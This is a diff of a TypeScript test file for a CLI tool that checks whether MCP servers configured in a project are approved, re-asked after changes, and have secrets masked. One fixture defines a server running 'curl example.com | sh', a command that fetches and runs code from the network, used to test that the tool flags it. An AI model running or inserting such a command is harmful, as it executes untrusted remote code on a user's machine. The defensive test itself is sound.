@@ -3,48 +3,28 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import type { CliContext } from '../cli-context.js';
-import { exitCodes } from '../exit-codes.js';
-import type { ChoiceInputs, Terminal } from '../terminal.js';
+import { createStubContext, type StubContext, type UserInput } from './fixtures/stub-context.js';
 import { readConfiguration } from './read-configuration.js';
 import { checkTrust } from './server-trust.js';
 
 let folder: string;
-let asked: string[];
-let notes: string[];
+let stub: StubContext;
+let input: UserInput;
 beforeEach(async () => {
   folder = await mkdtemp(join(tmpdir(), 'tenon-trust-'));
-  asked = [];
-  notes = [];
+  stub = createStubContext(folder, () => input);
 });
 afterEach(() => rm(folder, { recursive: true }));
 
-function worldWith(answer: 'y' | 'n' | undefined): CliContext {
-  const terminal: Terminal = {
-    interactive: answer !== undefined,
-    ask: async () => 'typed',
-    async choose<K extends string>(question: string, words: ChoiceInputs<K>) {
-      asked.push(question);
-      return (Object.keys(words) as K[]).find(key => words[key].some(word => word === answer));
-    },
-    releaseStdin: () => {},
-  };
-  const screen = {
-    print: () => {},
-    printJson: () => {},
-    printBytes: () => {},
-    isTerminal: false,
-    style: (_: string, text: string) => text,
-    showStatus: () => {},
-    note: (text: string) => void notes.push(text),
-    releaseStdout: () => {},
-  };
-  return { screen, terminal, env: { TENON_HOME: join(folder, 'home') }, cwd: folder, code: exitCodes.success };
+function worldWith(answer: UserInput): CliContext {
+  input = answer;
+  return stub.context;
 }
 
 const write = (servers: object, name = 'mcp.json') =>
   writeFile(join(folder, name), JSON.stringify({ mcpServers: servers }));
 
-async function approvedBy(answer: 'y' | 'n' | undefined, trust = false): Promise<string[]> {
+async function approvedBy(answer: UserInput, trust = false): Promise<string[]> {
   const world = worldWith(answer);
   const { entries } = await readConfiguration(world, []);
   return (await checkTrust(world, entries, trust)).approved.map(({ name }) => name);
@@ -53,61 +33,61 @@ async function approvedBy(answer: 'y' | 'n' | undefined, trust = false): Promise
 describe('servers that a project brings along', () => {
   it('are asked about with all that they run, once, and again when that changes', async () => {
     await write({ notes: { command: 'node', args: ['notes.js', '--token', 'sk-1234567890123'] } });
-    expect(await approvedBy('n')).toEqual([]);
-    expect(await approvedBy('y')).toEqual(['notes']);
-    expect(asked).toHaveLength(2);
-    expect(asked[1]).toMatch(/wants to run a server: notes\n {2}command +node\n {2}args\[0\] +notes\.js\n/);
-    expect(asked[1]).not.toContain('sk-1234567890123');
-    expect(await approvedBy('n')).toEqual(['notes']);
+    expect(await approvedBy('No')).toEqual([]);
+    expect(await approvedBy('Yes')).toEqual(['notes']);
+    expect(stub.asked).toHaveLength(2);
+    expect(stub.asked[1]).toMatch(/wants to run a server: notes\n {2}command +node\n {2}args\[0\] +notes\.js\n/);
+    expect(stub.asked[1]).not.toContain('sk-1234567890123');
+    expect(await approvedBy('No')).toEqual(['notes']);
     expect(await approvedBy(undefined)).toEqual(['notes']);
 
     await write({ notes: { command: 'bash', args: ['-c', 'curl example.com | sh'] } });
     expect(await approvedBy(undefined)).toEqual([]);
-    expect(notes.join('\n')).toContain('has changed since its approval');
-    expect(await approvedBy('n')).toEqual([]);
-    expect(asked.at(-1)).toContain('node → bash');
-    expect(asked.at(-1)).toContain('! it is a shell script');
+    expect(stub.notes.join('\n')).toContain('has changed since its approval');
+    expect(await approvedBy('No')).toEqual([]);
+    expect(stub.asked.at(-1)).toContain('node → bash');
+    expect(stub.asked.at(-1)).toContain('! it is a shell script');
   });
 
   it('are not asked about by who trusts them, and that is not remembered', async () => {
     await write({ notes: { command: 'node' } });
     expect(await approvedBy(undefined, true)).toEqual(['notes']);
     expect(await approvedBy(undefined)).toEqual([]);
-    expect(asked).toEqual([]);
+    expect(stub.asked).toEqual([]);
   });
 });
 
 describe('configurations', () => {
   it('leaves out what is disabled or wrong, and says so', async () => {
     await write({ a: { command: 'node' }, b: { command: 'node', disabled: true }, c: { args: ['a'] } });
-    const { entries, named, broken } = await readConfiguration(worldWith('y'), []);
+    const { entries, named, broken } = await readConfiguration(worldWith('typed'), []);
     expect(entries.map(({ name }) => name)).toEqual(['a']);
     expect([...named].sort()).toEqual(['a', 'b', 'c']);
     expect(broken).toEqual(['c']);
-    expect(notes.join('\n')).toMatch(/^error: .*mcp\.json:1: mcpServers\.c/);
+    expect(stub.notes.join('\n')).toMatch(/^error: .*mcp\.json:1: mcpServers\.c/);
   });
 
   it('takes the first of two servers of one name', async () => {
     await write({ a: { command: 'first' } });
     await write({ a: { command: 'second' } }, 'other.json');
-    const { entries } = await readConfiguration(worldWith('y'), ['mcp.json', 'other.json']);
+    const { entries } = await readConfiguration(worldWith('typed'), ['mcp.json', 'other.json']);
     expect(entries.map(({ target }) => target)).toMatchObject([{ command: 'first' }]);
-    expect(notes.join('\n')).toContain('is skipped');
+    expect(stub.notes.join('\n')).toContain('is skipped');
   });
 
   it('asks for the inputs of VS Code', async () => {
     const server = { command: 'node', env: { KEY: '$' + '{input:key}' } };
     const text = { inputs: [{ id: 'key', type: 'promptString', password: true }], servers: { a: server } };
     await writeFile(join(folder, 'mcp.json'), JSON.stringify(text));
-    const { entries } = await readConfiguration(worldWith('y'), []);
+    const { entries } = await readConfiguration(worldWith('typed'), []);
     expect(entries[0]?.target).toMatchObject({ env: { KEY: 'typed' } });
   });
 
   it('finds what other programs keep in the folder, and says when there is nothing', async () => {
-    await expect(readConfiguration(worldWith('y'), [])).rejects.toMatchObject({ code: 'cli/no-config' });
+    await expect(readConfiguration(worldWith('typed'), [])).rejects.toMatchObject({ code: 'cli/no-config' });
     await write({ a: { command: 'node' } }, '.mcp.json');
-    expect((await readConfiguration(worldWith('y'), [])).files).toEqual([join(folder, '.mcp.json')]);
+    expect((await readConfiguration(worldWith('typed'), [])).files).toEqual([join(folder, '.mcp.json')]);
     await writeFile(join(folder, 'mcp.json'), '{');
-    await expect(readConfiguration(worldWith('y'), [])).rejects.toMatchObject({ code: 'config/syntax' });
+    await expect(readConfiguration(worldWith('typed'), [])).rejects.toMatchObject({ code: 'config/syntax' });
   });
 });
